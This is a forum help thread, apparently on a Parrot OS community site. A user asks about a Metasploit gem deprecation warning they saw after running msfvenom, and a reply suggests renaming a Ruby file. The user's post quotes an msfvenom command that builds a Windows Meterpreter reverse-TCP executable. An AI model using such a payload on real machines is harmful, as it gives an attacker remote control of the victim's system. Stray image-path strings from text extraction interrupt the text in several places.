Problem after use msfvenom

What version of Parrot are you running? (include version (e.g. 4.6), edition(e.g. Home//KDE/OVA, etc.), and architecture (currently we only support amd64)

Linux version 5.6.0-2parrot1-amd64 ( (gcc version 9.3.0 (Debian 9.3.0-13)) #1 SMP Debian 5.6.14-2parrot1 (2020-05-23)

What method did you use to install Parrot? (Debian Standard / Debian GTK / parrot-experimental)


Configured to multiboot with other systems? (yes / no)

Dual boot

If there are any similar issues or solutions, link to them below:

dont find it :(

If there are any error messages or relevant logs, post them below:

After use msfvenom to configure my payload :`windows/x64/meterpreter/reverse_tcp LHOST: XXX.XXX.X.XX LPORT: 4444 -f exe > reverse.exe`

cat reverse.exe

i got this message :

    The pg and/or activerecord gem version has changed, meaning deprecated pg constants
    may no longer be in use, so try deleting this file to see if the
    'The PGconn, PGresult, and PGError constants are deprecated...' message has gone:

i dont know what i have to do … thank a lot guys for your help

Rather than deleting the /usr/share/metasploit-framework/lib/pg/deprecated_constants.rb file (sincethat may or may not be the problem, but probably is…) i would simply re-name it as, /usr/share/metasploit-framework/lib/pg/deprecated_constants.rb.bak
then try it again.
this is great material for understanding theunder-pinnings of the framework itselfwhether you are a devoper or not.

This topic wasautomatically closed 120 days after the last reply. New replies are no longer allowed.